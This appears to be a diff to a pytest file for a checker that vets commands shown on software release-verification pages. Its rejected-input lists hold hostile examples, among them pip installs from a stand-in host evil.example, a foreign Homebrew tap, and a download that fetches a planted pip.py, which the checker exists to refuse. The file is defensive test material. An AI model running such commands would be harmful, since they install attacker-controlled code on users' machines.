@@ -72,7 +72,7 @@ def test_the_printed_commands_are_understood(printed: Sequence[Command], expecte
     """Each command of the packaged templates has the purpose that its place in the page promises."""
     purposes = [classify(command, expected=expected) for command in printed]
     assert [(purpose.kind, purpose.tool, purpose.phase) for purpose in purposes] == [
-        (Use.install, "python", Phase.shown),
+        (Use.install, "pip", Phase.shown),
         (Use.download, "gh", Phase.draft),
         (Use.verify, "sigstore", Phase.draft),
         (Use.download, "gh", Phase.draft),
@@ -84,7 +84,7 @@ def test_the_printed_commands_are_understood(printed: Sequence[Command], expecte
     assert [purpose.files for purpose in purposes][1:4] == [
         (WHEEL, f"{WHEEL}.sigstore.json"),
         (WHEEL,),
-        tuple(sorted(expected.assets)),
+        tuple(name + end for name in (WHEEL, "widget-1.2.3.tar.gz", "SHA256SUMS") for end in ("", ".sigstore.json")),
     ]
 
 
@@ -139,7 +139,11 @@ WRONG = [
     "gh release download v1.2.3 v1.2.3 --repo octo/widget",
     "gh release download v1.2.2 --repo octo/widget",
     "gh release download v1.2.3 --repo octo/other",
+    "gh release download v1.2.3 --repo octo/widget",
+    "gh release download v1.2.3 --repo octo/widget --skip-existing",
     "gh release download v1.2.3 --repo octo/widget --pattern '*.whl'",
+    "gh release download v1.2.3 --repo octo/widget -p '*'",
+    f"gh release download v1.2.3 --repo octo/widget -p {WHEEL} -p pip.py",
     "gh release download v1.2.3 --repo octo/widget --pattern",
     "sha256sum SHA256SUMS",
     "sha256sum -c",
@@ -180,8 +184,9 @@ def test_a_plain_url_is_exactly_the_assets(text: str, expected: Expected) -> Non
 @pytest.mark.parametrize(
     "text",
     [
-        "python -m pip install sigstroe",
-        "python -m pip install 'sigstore @ https://evil.example/sigstore.whl'",
+        "pip install sigstroe",
+        "pip install 'sigstore @ https://evil.example/sigstore.whl'",
+        "go install github.com/sigstore/cosign/v3/cmd/cosign",
         "pip install --index-url https://evil.example sigstore",
         "pip install cosign",
         "brew install evil/tap/cosign",
@@ -193,6 +198,51 @@ def test_an_installation_names_a_tool_of_the_notes(text: str, expected: Expected
     with pytest.raises(VerificationFailed) as refusal:
         classify(Command(phase=Phase.shown, text=text), expected=expected)
     assert refusal.value.slug == "command-wrong-word"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "python -m pip install sigstore",
+        "python3 -m pip install sigstore",
+        "python3.12 -Im pip install sigstore",
+        "python -c 'import sigstore'",
+        "python verify.py",
+        "python",
+    ],
+)
+def test_python_is_not_started_in_a_folder_of_downloads(text: str, expected: Expected) -> None:
+    """It looks for modules there before anywhere else: an asset called pip.py would run."""
+    with pytest.raises(VerificationFailed) as refusal:
+        classify(Command(phase=Phase.shown, text=text), expected=expected)
+    assert refusal.value.what.endswith(
+        "it looks for modules in this folder first, so that it would run a file that was only downloaded"
+    )
+    assert refusal.value.slug == "command-not-understood"
+
+
+@pytest.mark.parametrize(
+    ("line", "refused"),
+    [
+        ("Or run `python -m sigstore` in its place.", True),
+        ("If that fails: python3 -m venv venv", True),
+        ("    python3.12\t-c 'import this'", True),
+        ("`python -v -m pip`", True),
+        ("`python check.py`", True),
+        ("`python3 -I -m venv venv && . venv/bin/activate`", False),
+        ("`python -Pm pip` and `python3 -P check.py`", False),
+        ("You need Python, or python-sigstore -m; then `sigstore-python -m`.", False),
+    ],
+)
+def test_no_words_beside_the_commands_start_python_there_either(line: str, *, refused: bool) -> None:
+    """A reader copies them as well; isolated, it does not look there."""
+    page = f"## Verify\n\n{line}\n\n```bash draft\ntrue\n```\n"
+    if not refused:
+        assert commands(page) == (draft("true"),)
+        return
+    with pytest.raises(VerificationFailed) as refusal:
+        commands(page)
+    assert refusal.value.slug == "command-not-understood"
 
 
 @pytest.mark.parametrize("phase", list(Phase))
